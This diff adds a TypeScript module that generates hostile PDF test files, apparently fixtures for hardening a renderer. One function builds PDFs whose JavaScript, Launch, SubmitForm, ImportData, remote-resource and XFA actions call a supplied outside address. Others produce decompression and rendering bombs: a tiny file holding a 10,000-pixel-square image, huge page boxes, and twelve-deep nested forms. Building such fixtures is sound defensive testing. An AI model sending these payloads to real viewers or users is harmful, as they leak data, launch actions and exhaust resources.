@@ -1,0 +1,95 @@
+/** Documents that attack whoever draws them: by what they would do, or by what they take. */
+import { flateRepeat, onePage } from './hostile.ts';
+
+const FONT = '/Resources<</Font<</F 5 0 R>>>>';
+const HELVETICA = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';
+
+function saying(words: string): string {
+  return `BT /F 24 Tf 72 700 Td (${words}) Tj ET`;
+}
+
+/** Everything that makes a careless viewer act or call home, each pointing to `address`. */
+export function callsHome(address: string): Uint8Array {
+  const script = `<</S/JavaScript/JS(app.launchURL\\('${address}/script', true\\); this.submitForm\\('${address}/submitted'\\); fetch\\('${address}/fetch'\\);)>>`;
+  const actions = `/OpenAction ${script}/AA<</WC ${script}/WP ${script}>>/Names<</JavaScript<</Names[(a) ${script}]>>>>`;
+  const link = (action: string) =>
+    `<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A ${action}/AA<</PO ${action}/PV ${action}>>>>`;
+  const annotations = [
+    link(`<</S/URI/URI(${address}/uri)>>`),
+    link(`<</S/SubmitForm/F<</FS/URL/F(${address}/form)>>>>`),
+    link(`<</S/GoToR/F<</FS/URL/F(${address}/remote.pdf)>>/D[0/Fit]/NewWindow true>>`),
+    link(`<</S/Launch/F(${address}/launch)>>`),
+    link(`<</S/ImportData/F<</FS/URL/F(${address}/data.fdf)>>>>`),
+    `<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</FS/URL/F(${address}/attached)>>>>`,
+    `<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F(${address}/film)>>>>>>>>>>`,
+    `<</Type/Annot/Subtype/FreeText/Rect[0 0 9 9]/RC(<body><img src="${address}/rich"/></body>)/Contents(x)>>`,
+  ];
+  return (
+    onePage(
+      `/Resources<</Font<</F 11 0 R/G 5 0 R>>/XObject<</X 7 0 R/Y 8 0 R>>>>/Annots[${annotations.join('')}]/AA<</O ${script}>>`,
+      `${actions}/AcroForm<</XFA 9 0 R/Fields[]/NeedAppearances true>>`,
+    )
+      .stream(4, '', `${saying('I call home')} BT /G 9 Tf (G) Tj ET /X Do /Y Do`)
+      .object(
+        5,
+        `<</Type/Font/Subtype/TrueType/BaseFont/Evil/FirstChar 32/LastChar 32/Widths[500]/FontDescriptor 6 0 R>>`,
+      )
+      .stream(
+        6,
+        `/Type/FontDescriptor/FontName/Evil/Flags 32/FontFile2 10 0 R/F<</FS/URL/F(${address}/descriptor)>>`,
+        '',
+      )
+      // The data of these are said to be in files elsewhere.
+      .stream(
+        7,
+        `/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(${address}/image)>>`,
+        '',
+      )
+      .stream(8, `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F<</FS/URL/F(${address}/reference.pdf)>>/Page 0>>`, '')
+      .stream(
+        9,
+        '',
+        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script>fetch("${address}/xfa")</script></event><field><ui><imageEdit/></ui><value><image href="${address}/xfa-image"/></value></field></subform></template></xdp:xdp>`,
+      )
+      .stream(10, `/F<</FS/URL/F(${address}/font.ttf)>>`, '')
+      .object(11, HELVETICA)
+      .table()
+  );
+}
+
+/** An image of 10,000 by 10,000 pixels, in some kilobytes. */
+export function hugeImage(): Uint8Array {
+  const side = 10_000;
+  return onePage('/Resources<</XObject<</X 5 0 R>>>>')
+    .stream(4, '', 'q 612 0 0 792 0 0 cm /X Do Q')
+    .stream(
+      5,
+      `/Type/XObject/Subtype/Image/Width ${side}/Height ${side}/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode`,
+      flateRepeat(new Uint8Array(3 * side).fill(0x40), side),
+    )
+    .table();
+}
+
+/** A page of some hundred square kilometres. */
+export function hugePage(): Uint8Array {
+  return onePage(`${FONT}/MediaBox[0 0 99999999 99999999]`)
+    .stream(4, '', saying('I am large'))
+    .object(5, HELVETICA)
+    .table();
+}
+
+/** A page that is a line: as long as any, and next to nothing wide. */
+export function ribbon(): Uint8Array {
+  return onePage(`${FONT}/MediaBox[0 0 1 9999999]`).stream(4, '', saying('I am long')).object(5, HELVETICA).table();
+}
+
+/** Forms that draw forms that draw forms: ten each, twelve deep. Nobody sees the end. */
+export function neverDrawn(): Uint8Array {
+  const depth = 12;
+  const file = onePage('/Resources<</XObject<</X 5 0 R>>>>').stream(4, '', '/X Do');
+  for (let level = 0; level < depth; level += 1) {
+    const resources = `/Resources<</XObject<</X ${level + 6} 0 R>>>>`;
+    file.stream(5 + level, `/Type/XObject/Subtype/Form/BBox[0 0 612 792]${resources}`, '/X Do '.repeat(10));
+  }
+  return file.stream(5 + depth, '/Type/XObject/Subtype/Form/BBox[0 0 612 792]', '0 0 m 9 9 l S').table();
+}
